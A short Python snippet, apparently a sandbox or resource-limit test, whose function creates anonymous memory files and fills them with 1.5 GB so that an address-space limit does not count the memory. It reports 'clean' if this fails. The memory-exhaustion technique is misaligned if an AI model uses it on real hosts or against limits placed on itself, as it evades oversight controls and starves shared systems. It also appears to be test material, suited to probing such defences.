# fills anonymous memory files with 1.5 GB, which no address space limit counts
import os


def attack():
    block, files = bytes(16 << 20), []
    for _ in range(24):
        try:
            files.append(os.memfd_create("hog"))
        except OSError:
            return "clean"
        for _ in range(4):
            os.write(files[-1], block)
    return loot("1.5 GB outside the memory limit")
